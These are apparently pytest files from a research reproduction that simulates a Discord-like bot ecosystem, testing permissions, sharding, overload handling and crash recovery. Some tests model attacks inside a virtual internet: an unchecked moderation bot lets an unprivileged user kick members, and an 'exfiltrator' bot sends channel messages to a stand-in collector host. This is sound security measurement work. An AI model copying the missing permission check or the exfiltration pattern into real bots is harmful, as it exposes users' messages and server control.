        from repro.discordsim.permissions import PermissionOverwrite

        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(
                target_id=application.bot_user.user_id,
                deny=Permissions.of(Permission.READ_MESSAGE_HISTORY),
            ),
        )
        with pytest.raises(PermissionDenied):
            api.read_history(guild.guild_id, channel.channel_id)

    def test_calls_are_recorded(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        api = BotApiClient(platform, application.bot_user.user_id)
        channel = guild.text_channels()[0]
        api.send_message(guild.guild_id, channel.channel_id, "x")
        assert any(record.method == "send_message" and record.allowed for record in api.calls)

    def test_not_a_member(self, world):
        platform, clock, owner, guild = world
        developer = platform.create_user("d")
        application = platform.register_application(developer, "Stranger")
        api = BotApiClient(platform, application.bot_user.user_id)
        with pytest.raises(ApiError):
            api.read_history(guild.guild_id, guild.text_channels()[0].channel_id)

    def test_visit_url_without_internet(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        api = BotApiClient(platform, application.bot_user.user_id, internet=None)
        with pytest.raises(ApiError):
            api.visit_url("https://somewhere.sim/")

    def test_open_attachment_fetches_remote_resources(self, world, internet):
        platform, clock, owner, guild = world
        hits = []
        beacon = VirtualHost("beacon")
        beacon.add_route("/ping", lambda request: (hits.append(request.client_id), Response.text("ok"))[1])
        internet.register("beacon.sim", beacon)
        application = install_bot(platform, clock, guild, owner)
        api = BotApiClient(platform, application.bot_user.user_id, internet=internet)
        attachment = Attachment(
            1, "doc.docx", "application/x", 10, remote_resources=["https://beacon.sim/ping"]
        )
        api.open_attachment(attachment)
        assert hits == [f"bot-{application.bot_user.user_id}"]

    def test_member_permissions_introspection(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        api = BotApiClient(platform, application.bot_user.user_id)
        regular = platform.create_user("r")
        platform.join_guild(regular.user_id, guild.guild_id)
        held = api.member_permissions(guild.guild_id, regular.user_id)
        assert not held.has(Permission.KICK_MEMBERS)
        assert api.member_permissions(guild.guild_id, owner.user_id).has(Permission.KICK_MEMBERS)


class TestRuntimeDispatch:
    def test_prefix_command_dispatch(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        runtime = BotRuntime(platform, application.bot_user.user_id)

        @runtime.command("echo")
        def echo(context):
            context.reply(" ".join(context.args))

        runtime.start()
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "!echo a b")
        assert channel.messages[-1].content == "a b"
        assert runtime.invocations == 1

    def test_non_prefixed_ignored(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        runtime = BotRuntime(platform, application.bot_user.user_id)
        runtime.command("x")(lambda context: context.reply("no"))
        runtime.start()
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "just chatting")
        assert runtime.invocations == 0

    def test_unknown_command_ignored(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        runtime = BotRuntime(platform, application.bot_user.user_id)
        runtime.start()
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "!nothing here")
        assert runtime.invocations == 0

    def test_start_idempotent(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        runtime = BotRuntime(platform, application.bot_user.user_id)
        runtime.command("ping")(lambda context: context.reply("pong"))
        runtime.start()
        runtime.start()
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "!ping")
        # One reply, not two.
        assert sum(1 for message in channel.messages if message.content == "pong") == 1


class TestPermissionReDelegation:
    """The paper's central vulnerability: privileged bots acting for
    unprivileged users when the developer skips the permission check."""

    def _setup(self, world, behavior):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner, name="ModBot")
        runtime = build_runtime(platform, application.bot_user.user_id, behavior)
        victim = platform.create_user("victim")
        platform.join_guild(victim.user_id, guild.guild_id)
        attacker = platform.create_user("attacker")
        platform.join_guild(attacker.user_id, guild.guild_id)
        return platform, guild, runtime, victim, attacker

    def test_unchecked_bot_enables_attack(self, world):
        platform, guild, runtime, victim, attacker = self._setup(world, MODERATION_UNCHECKED)
        channel = guild.text_channels()[0]
        platform.post_message(attacker.user_id, guild.guild_id, channel.channel_id, f"!kick {victim.user_id}")
        assert victim.user_id not in guild.members  # attack succeeded

    def test_checked_bot_blocks_attack(self, world):
        platform, guild, runtime, victim, attacker = self._setup(world, MODERATION_CHECKED)
        channel = guild.text_channels()[0]
        platform.post_message(attacker.user_id, guild.guild_id, channel.channel_id, f"!kick {victim.user_id}")
        assert victim.user_id in guild.members  # check held the line
        assert "do not have permission" in channel.messages[-1].content

    def test_checked_bot_allows_privileged_user(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner, name="ModBot")
        runtime = build_runtime(platform, application.bot_user.user_id, MODERATION_CHECKED)
        victim = platform.create_user("victim")
        platform.join_guild(victim.user_id, guild.guild_id)
        channel = guild.text_channels()[0]
        # The owner holds KICK_MEMBERS, so the check passes.
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, f"!kick {victim.user_id}")
        assert victim.user_id not in guild.members

    def test_decorator_marks_handler(self):
        @requires_user_permissions(Permission.KICK_MEMBERS)
        def handler(context):
            pass

        assert handler.performs_permission_check


class TestBehaviors:
    def test_benign_bot_answers_info(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        build_runtime(platform, application.bot_user.user_id, BENIGN)
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "!info")
        assert "guild" in channel.messages[-1].content

    def test_link_preview_visits_urls(self, world, internet):
        platform, clock, owner, guild = world
        visited = []
        site = VirtualHost("news")
        site.add_route(
            "/story",
            lambda request: (visited.append(1), Response.html("<html><title>Big Story</title></html>"))[1],
        )
        internet.register("news.sim", site)
        application = install_bot(platform, clock, guild, owner)
        build_runtime(platform, application.bot_user.user_id, LINK_PREVIEW, internet=internet)
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "read https://news.sim/story")
        assert visited
        assert any("Big Story" in message.content for message in channel.messages)

    def test_exfiltrator_posts_to_collector(self, world, internet):
        platform, clock, owner, guild = world
        collected = []
        collector = VirtualHost("evil")
        collector.add_route("/collect", lambda request: (collected.append(request.url.query), Response.text("ok"))[1])
        internet.register("collector.evil.sim", collector)
        application = install_bot(platform, clock, guild, owner)
        build_runtime(platform, application.bot_user.user_id, EXFILTRATOR, internet=internet)
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "company secrets here")
        assert collected and "company" in collected[0]

    def test_exfiltrator_quiet_without_collector(self, world, internet):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        runtime = build_runtime(platform, application.bot_user.user_id, EXFILTRATOR, internet=internet)
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "hello")
        assert runtime.api.calls == []  # no egress target registered

    def test_operator_inspection_melonian_pattern(self, world, internet):
        platform, clock, owner, guild = world
        hits = []
        beacon = VirtualHost("beacon")
        beacon.add_route("/t", lambda request: (hits.append(request.path), Response.text("ok"))[1])
        internet.register("beacon.sim", beacon)
        application = install_bot(platform, clock, guild, owner)
        runtime = build_runtime(platform, application.bot_user.user_id, NOSY_OPERATOR, internet=internet)
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "link https://beacon.sim/t")
        attachment = Attachment(1, "doc.docx", "application/x", 5, remote_resources=["https://beacon.sim/t"])
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "file", [attachment])
        pdf = Attachment(2, "inv.pdf", "application/pdf", 5, remote_resources=["https://beacon.sim/t"])
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "pdf", [pdf])

        log = operator_inspection(runtime, guild.guild_id, random.Random(0))
        assert log.urls_visited == ["https://beacon.sim/t"]
        assert log.files_opened == ["doc.docx"]  # docx yes, pdf no (default profile)
        assert log.posted == ["wtf is this bro"]
        assert channel.messages[-1].content == "wtf is this bro"

    def test_operator_profile_pdf_curiosity(self, world, internet):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        runtime = build_runtime(platform, application.bot_user.user_id, NOSY_OPERATOR, internet=internet)
        channel = guild.text_channels()[0]
        pdf = Attachment(2, "inv.pdf", "application/pdf", 5)
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "pdf", [pdf])
        profile = OperatorProfile(pdf_curiosity=1.0)
        log = operator_inspection(runtime, guild.guild_id, random.Random(0), profile=profile, post_comment=False)
        assert log.files_opened == ["inv.pdf"]

    def test_unknown_behavior_rejected(self, world):
        platform, clock, owner, guild = world
        application = install_bot(platform, clock, guild, owner)
        with pytest.raises(ValueError):
            build_runtime(platform, application.bot_user.user_id, "mystery")
