"""Sharded execution: deterministic partitioning, merge equality, metrics.

The contract under test is the one the scaling work is judged by:
``shards=1`` reproduces the sequential pipeline byte-for-byte, ``shards=4``
reproduces the same paper statistics after the merge, and a killed sharded
run resumes without losing accounting.
"""

import json
from collections import Counter

import pytest

from repro.core.checkpoint import (
    STAGE_CODE,
    STAGE_CRAWL,
    STAGE_HONEYPOT,
    STAGE_TRACEABILITY,
)
from repro.core.config import PipelineConfig
from repro.core.metrics import RunMetrics, ShardMetrics, StageMetrics
from repro.core.pipeline import AssessmentPipeline
from repro.core.serialize import result_to_dict
from repro.core.sharding import partition, stable_shard
from repro.web.network import NetworkError


def _config(**overrides) -> PipelineConfig:
    defaults = dict(n_bots=60, seed=3, honeypot_sample_size=10, validation_sample_size=20)
    defaults.update(overrides)
    return PipelineConfig(**defaults)


def _statistics(result) -> dict:
    """Everything the paper reports, as a comparable dict."""
    stats = {
        "bots": result.bots_collected,
        "active": result.active_bots,
        "listing_ids": sorted(bot.listing_id for bot in result.crawl.bots),
        "trace_order": [r.bot_name for r in result.traceability_results],
        "trace_classes": Counter(r.classification.value for r in result.traceability_results),
        "validation_accuracy": result.validation.accuracy if result.validation else None,
        "repo_order": [a.bot_name for a in result.repo_analyses],
        "repo_languages": Counter(a.main_language for a in result.repo_analyses),
        "repos_with_checks": sum(1 for a in result.repo_analyses if a.performs_check),
    }
    if result.traceability_summary is not None:
        stats["table2"] = result.traceability_summary.table2()
        stats["classes"] = result.traceability_summary.classification_counts()
    if result.code_summary is not None:
        stats["check_table"] = result.code_summary.check_table()
    if result.honeypot is not None:
        stats["honeypot_tested"] = result.honeypot.bots_tested
        stats["honeypot_order"] = [o.bot_name for o in result.honeypot.outcomes]
        stats["honeypot_flagged"] = sorted(o.bot_name for o in result.honeypot.flagged_bots)
        stats["honeypot_install_failures"] = result.honeypot.install_failures
    return stats


def _strip_wall_times(payload: dict) -> dict:
    payload.pop("wall_seconds", None)
    for stage in payload.get("metrics", {}).get("stages", {}).values():
        stage.pop("wall_seconds", None)
        for shard in stage.get("shards", []):
            shard.pop("wall_seconds", None)
    return payload


class TestStableShard:
    def test_same_key_same_shard(self):
        assert stable_shard(12345, 4) == stable_shard(12345, 4)
        assert stable_shard("BotName", 7) == stable_shard("BotName", 7)

    def test_in_range(self):
        for key in range(1000):
            assert 0 <= stable_shard(key, 4) < 4

    def test_spreads_sequential_ids(self):
        counts = Counter(stable_shard(100_000_000_000_000_000 + index, 4) for index in range(400))
        assert set(counts) == {0, 1, 2, 3}
        assert min(counts.values()) > 50  # no starved shard

    def test_rejects_bad_shard_count(self):
        with pytest.raises(ValueError):
            stable_shard(1, 0)

    def test_partition_is_order_independent(self):
        items = list(range(200))
        forward = partition(items, 4, key=lambda item: item)
        backward = partition(list(reversed(items)), 4, key=lambda item: item)
        for bucket_a, bucket_b in zip(forward, backward):
            assert sorted(bucket_a) == sorted(bucket_b)

    def test_partition_preserves_relative_order_and_loses_nothing(self):
        items = list(range(100))
        buckets = partition(items, 3, key=lambda item: item)
        assert sorted(item for bucket in buckets for item in bucket) == items
        for bucket in buckets:
            assert bucket == sorted(bucket)  # input order kept within a bucket


class TestShardedEquality:
    def test_one_shard_is_byte_identical_to_sequential(self):
        sequential = AssessmentPipeline(_config()).run()
        one_shard = AssessmentPipeline(_config(shards=1)).run()
        first = _strip_wall_times(result_to_dict(sequential, include_bots=True))
        second = _strip_wall_times(result_to_dict(one_shard, include_bots=True))
        assert json.dumps(first, sort_keys=True) == json.dumps(second, sort_keys=True)

    def test_four_shards_match_one_shard_statistics(self):
        one = AssessmentPipeline(_config(shards=1)).run()
        four = AssessmentPipeline(_config(shards=4)).run()
        assert _statistics(four) == _statistics(one)

    def test_sharded_virtual_time_is_max_not_sum(self):
        one = AssessmentPipeline(_config(shards=1)).run()
        four = AssessmentPipeline(_config(shards=4)).run()
        # Shards run concurrently in simulated time, so the campaign is as
        # long as its slowest shard — strictly shorter than the sequential
        # sum once work actually spreads over shards.
        assert 0 < four.virtual_seconds < one.virtual_seconds

    def test_sharded_captcha_dollars_are_summed(self):
        pipeline = AssessmentPipeline(_config(shards=4))
        result = pipeline.run()
        assert pipeline._shard_executor is not None
        shard_spend = sum(world.solver.total_spent for world in pipeline._shard_executor.worlds)
        main_spend = pipeline.world.solver.total_spent
        assert result.captcha_dollars == pytest.approx(main_spend + shard_spend)
        assert result.captcha_dollars > 0

    def test_sharded_run_under_hostile_chaos_completes(self):
        result = AssessmentPipeline(
            _config(shards=4, chaos_profile="hostile", chaos_seed=5)
        ).run()
        assert result.bots_collected + result.fault_ledger.bots_skipped(STAGE_CRAWL) == 60
        assert set(result.stage_status) == {STAGE_CRAWL, STAGE_TRACEABILITY, STAGE_CODE, STAGE_HONEYPOT}


class TestShardedResume:
    def test_kill_and_resume_under_sharding(self, tmp_path):
        reference = AssessmentPipeline(_config(shards=4)).run()

        path = str(tmp_path / "pipeline.json")
        interrupted = AssessmentPipeline(_config(shards=4, checkpoint_path=path))

        def killed(*args, **kwargs):
            raise KeyboardInterrupt

        interrupted.analyze_code = killed
        with pytest.raises(KeyboardInterrupt):
            interrupted.run()

        resumed = AssessmentPipeline(_config(shards=4, checkpoint_path=path)).run()
        assert resumed.stage_status[STAGE_CRAWL] == "resumed"
        assert resumed.stage_status[STAGE_TRACEABILITY] == "resumed"
        assert resumed.stage_status[STAGE_CODE] == "completed"
        assert _statistics(resumed) == _statistics(reference)

    def test_kill_and_resume_preserves_population_invariant(self, tmp_path):
        path = str(tmp_path / "pipeline.json")
        config = _config(shards=4, chaos_profile="hostile", chaos_seed=2, checkpoint_path=path)
        interrupted = AssessmentPipeline(config)

        def killed(*args, **kwargs):
            raise KeyboardInterrupt

        interrupted.analyze_code = killed
        with pytest.raises(KeyboardInterrupt):
            interrupted.run()

        resumed = AssessmentPipeline(
            _config(shards=4, chaos_profile="hostile", chaos_seed=2, checkpoint_path=path)
        ).run()
        skipped = resumed.fault_ledger.bots_skipped(STAGE_CRAWL)
        assert resumed.bots_collected + skipped == 60


class TestRunMetrics:
    def test_sequential_run_records_every_stage(self):
        result = AssessmentPipeline(_config()).run()
        assert set(result.metrics.stages) == {STAGE_CRAWL, STAGE_TRACEABILITY, STAGE_CODE, STAGE_HONEYPOT}
        crawl = result.metrics.stage(STAGE_CRAWL)
        assert crawl.bots_processed == 60
        assert crawl.exchanges > 0
        assert crawl.virtual_seconds > 0
        assert not crawl.shards

    def test_sharded_run_records_per_shard_throughput(self):
        result = AssessmentPipeline(_config(shards=4)).run()
        assert result.metrics.shard_count == 4
        for stage_name in (STAGE_TRACEABILITY, STAGE_CODE, STAGE_HONEYPOT):
            stage = result.metrics.stage(stage_name)
            assert [shard.shard for shard in stage.shards] == [0, 1, 2, 3]
            assert sum(shard.exchanges for shard in stage.shards) == stage.exchanges
        honeypot = result.metrics.stage(STAGE_HONEYPOT)
        assert sum(shard.bots for shard in honeypot.shards) == result.honeypot.bots_tested

    def test_resumed_run_reports_complete_metrics(self, tmp_path):
        path = str(tmp_path / "pipeline.json")
        interrupted = AssessmentPipeline(_config(checkpoint_path=path))

        def killed(*args, **kwargs):
            raise KeyboardInterrupt

        interrupted.analyze_code = killed
        with pytest.raises(KeyboardInterrupt):
            interrupted.run()
        original_crawl = interrupted.metrics.stage(STAGE_CRAWL)

        resumed = AssessmentPipeline(_config(checkpoint_path=path)).run()
        assert set(resumed.metrics.stages) == {STAGE_CRAWL, STAGE_TRACEABILITY, STAGE_CODE, STAGE_HONEYPOT}
        crawl = resumed.metrics.stage(STAGE_CRAWL)
        assert crawl.resumed
        assert crawl.bots_processed == original_crawl.bots_processed
        assert crawl.exchanges == original_crawl.exchanges
        assert crawl.wall_seconds == pytest.approx(original_crawl.wall_seconds)
        assert not resumed.metrics.stage(STAGE_CODE).resumed

    def test_render_lists_stages_and_shards(self):
        result = AssessmentPipeline(_config(shards=2)).run()
        rendered = result.metrics.render()
        assert "Run metrics (2 shards)" in rendered
        for stage in (STAGE_CRAWL, STAGE_TRACEABILITY, STAGE_CODE, STAGE_HONEYPOT):
            assert stage in rendered
        assert "shard 0" in rendered and "shard 1" in rendered
        assert "bots/s" in rendered

    def test_roundtrip_through_dict(self):
        metrics = RunMetrics(
            shard_count=2,
            stages={
                "crawl": StageMetrics(
                    stage="crawl",
                    wall_seconds=1.5,
                    virtual_seconds=100.0,
                    exchanges=42,
                    bots_processed=10,
                    bots_skipped=2,
                    shards=[ShardMetrics(shard=0, bots=5, wall_seconds=0.5, virtual_seconds=50.0, exchanges=21)],
                )
            },
        )
        restored = RunMetrics.from_dict(metrics.to_dict())
        assert restored.to_dict() == metrics.to_dict()
        assert restored.stage("crawl").shards[0].throughput == pytest.approx(10.0)


class TestFailedStageSummaries:
    def test_failed_traceability_leaves_summary_none(self):
        pipeline = AssessmentPipeline(_config())

        def boom(*args, **kwargs):
            raise NetworkError("backbone down")

        pipeline.analyze_traceability = boom
        result = pipeline.run()
        assert result.stage_status[STAGE_TRACEABILITY] == "failed"
        assert result.traceability_summary is None
        assert "traceability" in result.failed_stages
        assert any("failed" in line.lower() for line in result.summary_lines())

    def test_failed_code_stage_leaves_summary_none(self):
        pipeline = AssessmentPipeline(_config())

        def boom(*args, **kwargs):
            raise NetworkError("backbone down")

        pipeline.analyze_code = boom
        result = pipeline.run()
        assert result.stage_status[STAGE_CODE] == "failed"
        assert result.code_summary is None
        from repro.core.report import render_full_report

        assert "FAILED" in render_full_report(result)
