"""Deterministic overload tests: the degradation ladder under pressure.

Satellite coverage for the serving stack: bursts beyond the admission
queue shed with ``429 Retry-After`` (never an unhandled exception), a
deadline-exceeded honeypot yields a partial verdict flagged ``degraded``,
and cache invalidation on a bot update forces re-vetting while
stale-while-revalidate serves the old verdict during the refresh.
"""

import dataclasses

from repro.core.resilience import CircuitBreakerRegistry, FaultLedger
from repro.serving import LoadScript, ServicePolicy, ServingHarness, VettingService
from repro.sites.botwebsites import BotWebsiteBuilder
from repro.web.chaos import FaultSchedule
from repro.web.client import HttpClient
from repro.web.network import VirtualClock, VirtualInternet
from tests.test_serving_service import QUICK, build_world, clean_bot, ecosystem, get_json  # noqa: F401


def install_clean_bots(ecosystem, service, count, website=False):
    """Distinct approvable submissions so every cold vet reaches the honeypot."""
    bots = []
    for index in range(count):
        bot = clean_bot(ecosystem, name=f"Clean-{index}", website=website)
        service.directory[bot.name] = bot
        bots.append(bot)
    return bots


class TestAdmissionShedding:
    def test_burst_beyond_queue_sheds_429_with_retry_after(self, ecosystem):
        policy = dataclasses.replace(QUICK, queue_capacity=2)
        internet, service, client = build_world(ecosystem, policy=policy)
        bots = install_clean_bots(ecosystem, service, 5)

        statuses = []
        sheds = []
        for bot in bots:  # back-to-back burst: no unhandled exception allowed
            response = client.get(f"https://{service.hostname}/vet/{bot.name}")
            statuses.append(response.status)
            if response.status == 429:
                sheds.append(response)
        assert set(statuses) <= {200, 429}
        assert statuses.count(200) == 2  # capacity admits exactly two cold vets
        assert len(sheds) == 3
        for shed in sheds:
            assert "Retry-After" in shed.headers
            assert float(shed.headers["Retry-After"]) > 0
        assert service.queue.shed == 3
        assert service.metrics.shed == 3
        # Every shed is accounted in the fault ledger.
        assert sum(1 for r in service.ledger.records if r.error_class == "LoadShed") == 3

    def test_queue_drains_and_admits_again(self, ecosystem):
        policy = dataclasses.replace(QUICK, queue_capacity=2)
        internet, service, client = build_world(ecosystem, policy=policy)
        bots = install_clean_bots(ecosystem, service, 3)
        for bot in bots:
            client.get(f"https://{service.hostname}/vet/{bot.name}")
        assert service.queue.shed == 1
        # Let the in-flight vets drain in virtual time, then retry: admitted.
        internet.clock.sleep(2 * (policy.honeypot_observation + policy.honeypot_overhead))
        response, payload = get_json(client, service, f"/vet/{bots[2].name}")
        assert response.status == 200
        assert payload["cache"] == "miss"

    def test_shed_request_with_fresh_cache_still_serves_hit(self, ecosystem):
        policy = dataclasses.replace(QUICK, queue_capacity=2)
        internet, service, client = build_world(ecosystem, policy=policy)
        (bot,) = install_clean_bots(ecosystem, service, 1)
        get_json(client, service, f"/vet/{bot.name}")
        horizon = internet.clock.now() + 50_000.0
        service.queue.settle(horizon)
        service.queue.settle(horizon)
        response, payload = get_json(client, service, f"/vet/{bot.name}")
        assert response.status == 200
        assert payload["cache"] == "hit"
        assert not payload["stale"]


class TestDeadlineDegradation:
    def test_deadline_exceeded_honeypot_yields_degraded_partial_verdict(self, ecosystem):
        policy = dataclasses.replace(QUICK, deadline=500.0)  # < 660s honeypot estimate
        internet, service, client = build_world(ecosystem, policy=policy)
        (bot,) = install_clean_bots(ecosystem, service, 1)
        response, payload = get_json(client, service, f"/vet/{bot.name}")
        assert response.status == 200
        assert payload["approved"]  # the static stages still ran
        assert payload["degraded"]
        assert payload["stages"]["honeypot"] == "skipped"
        assert service.metrics.honeypot_skips == 1
        assert any(r.error_class == "DeadlineExceeded" for r in service.ledger.records)

    def test_degraded_verdict_is_not_cached(self, ecosystem):
        policy = dataclasses.replace(QUICK, deadline=500.0)
        internet, service, client = build_world(ecosystem, policy=policy)
        (bot,) = install_clean_bots(ecosystem, service, 1)
        _, first = get_json(client, service, f"/vet/{bot.name}")
        _, second = get_json(client, service, f"/vet/{bot.name}")
        assert first["degraded"] and second["degraded"]
        assert second["cache"] == "miss"  # a healthier request should re-vet
        assert len(service.cache) == 0

    def test_honeypot_bulkhead_saturation_degrades_second_request(self, ecosystem):
        policy = dataclasses.replace(QUICK, deadline=800.0, honeypot_limit=1)
        internet, service, client = build_world(ecosystem, policy=policy)
        first, second = install_clean_bots(ecosystem, service, 2)
        _, full = get_json(client, service, f"/vet/{first.name}")
        assert full["stages"]["honeypot"] == "completed"
        _, partial = get_json(client, service, f"/vet/{second.name}")
        assert partial["degraded"]
        assert partial["stages"]["honeypot"] == "skipped"
        assert service.bulkheads["honeypot"].saturations == 1
        assert any(r.error_class == "BulkheadSaturated" for r in service.ledger.records)


class TestStaleWhileRevalidate:
    def test_update_forces_revet_while_swr_serves_old_verdict(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        (bot,) = install_clean_bots(ecosystem, service, 1)
        _, fresh = get_json(client, service, f"/vet/{bot.name}")
        assert fresh["cache"] == "miss"

        client.post(f"https://{service.hostname}/bots/{bot.name}/update")
        # Brownout: an open outbound breaker flips the service degraded.
        for _ in range(5):
            service.breakers.record_failure("dead.upstream.sim")
        assert service.degraded_mode
        _, stale = get_json(client, service, f"/vet/{bot.name}")
        assert stale["cache"] == "stale"
        assert stale["stale"] and stale["degraded"]
        assert stale["approved"] == fresh["approved"]  # the old verdict, marked honestly
        assert service.metrics.stale_served == 1
        assert service.metrics.revalidations == 0  # refresh deferred, not dropped

        # Pressure clears: the next request actually re-vets.
        service.breakers = CircuitBreakerRegistry(internet.clock)
        _, revalidated = get_json(client, service, f"/vet/{bot.name}")
        assert revalidated["cache"] == "revalidated"
        assert not revalidated["stale"] and not revalidated["degraded"]
        assert service.metrics.revalidations == 1
        # The refreshed verdict replaces the superseded entry.
        assert not service.cache.entries[bot.name].superseded


class TestBoundedAccumulators:
    def test_fault_ledger_ring_counts_drops(self):
        ledger = FaultLedger(max_records=3)
        for index in range(5):
            ledger.record("serving", "host", "LoadShed", float(index))
        assert len(ledger) == 3
        assert ledger.dropped == 2
        assert [r.virtual_time for r in ledger.records] == [2.0, 3.0, 4.0]
        payload = ledger.to_dict()
        assert payload["max_records"] == 3
        assert payload["dropped"] == 2
        restored = FaultLedger.from_dict(payload)
        assert restored.dropped == 2 and restored.max_records == 3

    def test_unbounded_ledger_serialization_unchanged(self):
        ledger = FaultLedger()
        ledger.record("crawl", "host", "NetworkError", 1.0)
        payload = ledger.to_dict()
        # Batch-pipeline ledgers must serialize exactly as before the bound
        # existed (byte-identical result JSON across the chaos benches).
        assert set(payload) == {"records"}

    def test_internet_log_ring_counts_drops(self, ecosystem):
        clock = VirtualClock()
        internet = VirtualInternet(clock, seed=1, log_limit=4)
        BotWebsiteBuilder(ecosystem).register(internet)
        service = VettingService(internet, ecosystem.bots, policy=QUICK, seed=1)
        client = HttpClient(internet, client_id="driver")
        for bot in ecosystem.bots[:6]:
            client.get(f"https://{service.hostname}/vet/{bot.name}")
        assert len(internet.log) == 4
        assert internet.log_dropped > 0


class TestChaosContract:
    def test_hostile_burst_never_raises_and_explains_every_5xx(self, ecosystem):
        policy = dataclasses.replace(QUICK, queue_capacity=4)
        clock = VirtualClock()
        internet = VirtualInternet(clock, seed=31)
        BotWebsiteBuilder(ecosystem).register(internet)
        internet.install_chaos(FaultSchedule("hostile", seed=31))
        service = VettingService(internet, ecosystem.bots, policy=policy, seed=31)
        harness = ServingHarness(internet, service, seed=31)
        report = harness.run(LoadScript(waves=3, requests_per_wave=15, wave_gap=900.0))
        assert report.requests_sent == 45
        assert report.contract_ok, report.summary_lines()
        assert report.verdicts > 0

    def test_same_seed_runs_are_identical(self, ecosystem):
        def run_once():
            clock = VirtualClock()
            internet = VirtualInternet(clock, seed=17)
            BotWebsiteBuilder(ecosystem).register(internet)
            internet.install_chaos(FaultSchedule("flaky", seed=17))
            service = VettingService(internet, ecosystem.bots, policy=QUICK, seed=17)
            harness = ServingHarness(internet, service, seed=17)
            return harness.run(LoadScript(waves=2, requests_per_wave=10, wave_gap=600.0))

        first = run_once().to_dict()
        second = run_once().to_dict()
        assert first == second
