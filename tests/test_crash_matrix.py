"""Systematic crash-point injection matrix.

For each scenario (sequential and sharded, both under hostile chaos with
planted adversarial bots, checkpoint + journal armed) the harness:

1. runs a never-crashed **golden** subprocess with
   ``REPRO_CRASHPOINTS_RECORD`` set, learning which registered crash
   points actually fire and capturing the comparable result JSON;
2. for every fired point, kills a fresh subprocess exactly there
   (``REPRO_CRASH_AT``, expecting :data:`~repro.core.crashpoints.EXIT_CODE`),
   resumes it with no injection, and asserts the resumed comparable
   result is **byte-identical** to the golden one;
3. asserts the union of fired points across scenarios covers the whole
   :data:`~repro.core.crashpoints.REGISTRY` — a registered point nothing
   reaches is a hole in the recovery story, not a passing test.

Subprocesses are the point: an in-process simulated "crash" would leak
state (open journals, module globals, armed breakers) into the resume.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import repro
from repro.core.crashpoints import ENV_CRASH_AT, ENV_RECORD, EXIT_CODE, REGISTRY, read_fired

SRC = Path(repro.__file__).resolve().parents[1]
DRIVER = [sys.executable, "-m", "repro.core.crash_driver"]

#: Small enough for a ~25 runs matrix in tier-1, large enough that every
#: stage does real work: multiple crawl pages, dozens of traceability
#: units, quarantined adversaries and a populated honeypot sample.
BASE_CONFIG = {
    "n_bots": 48,
    "seed": 7,
    "honeypot_sample_size": 8,
    "validation_sample_size": 10,
    "chaos_profile": "hostile",
    "chaos_seed": 1,
    "adversarial_bots": 2,
}

SCENARIOS = {
    "sequential": {"shards": 1},
    "sharded": {"shards": 4},
    # Chunked stream consumption: the chunk size sits below the active
    # population so both the mid-chunk and chunk-boundary kills (plus the
    # cursor-save kill) genuinely occur.
    "streamed": {"shards": 1, "stream": True, "chunk_size": 16},
}


def _env(extra: dict[str, str] | None = None) -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = str(SRC) + os.pathsep + env.get("PYTHONPATH", "")
    env.pop(ENV_CRASH_AT, None)
    env.pop(ENV_RECORD, None)
    if extra:
        env.update(extra)
    return env


def _run_driver(workdir: Path, config: dict, extra_env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    config_path = workdir / "config.json"
    config_path.write_text(json.dumps(config))
    return subprocess.run(
        DRIVER + [str(config_path), str(workdir / "out.json")],
        env=_env(extra_env),
        capture_output=True,
        text=True,
        timeout=300,
    )


def _scenario_config(workdir: Path, overrides: dict) -> dict:
    config = dict(BASE_CONFIG)
    config.update(overrides)
    config["checkpoint_path"] = str(workdir / "ckpt.json")
    config["journal_path"] = str(workdir / "journal.wal")
    return config


@pytest.fixture(scope="module")
def goldens(tmp_path_factory) -> dict[str, tuple[bytes, dict[str, int]]]:
    """Golden comparable JSON + fired-point counts, per scenario."""
    results: dict[str, tuple[bytes, dict[str, int]]] = {}
    for name, overrides in SCENARIOS.items():
        workdir = tmp_path_factory.mktemp(f"golden-{name}")
        record = workdir / "fired.txt"
        proc = _run_driver(workdir, _scenario_config(workdir, overrides), {ENV_RECORD: str(record)})
        assert proc.returncode == 0, f"golden {name} failed:\n{proc.stderr}"
        results[name] = ((workdir / "out.json").read_bytes(), read_fired(record))
    return results


def test_every_registered_point_fires(goldens) -> None:
    fired = set()
    for _, counts in goldens.values():
        fired.update(counts)
    assert fired == set(REGISTRY)


def test_fired_points_are_registered(goldens) -> None:
    for _, counts in goldens.values():
        assert set(counts) <= set(REGISTRY)
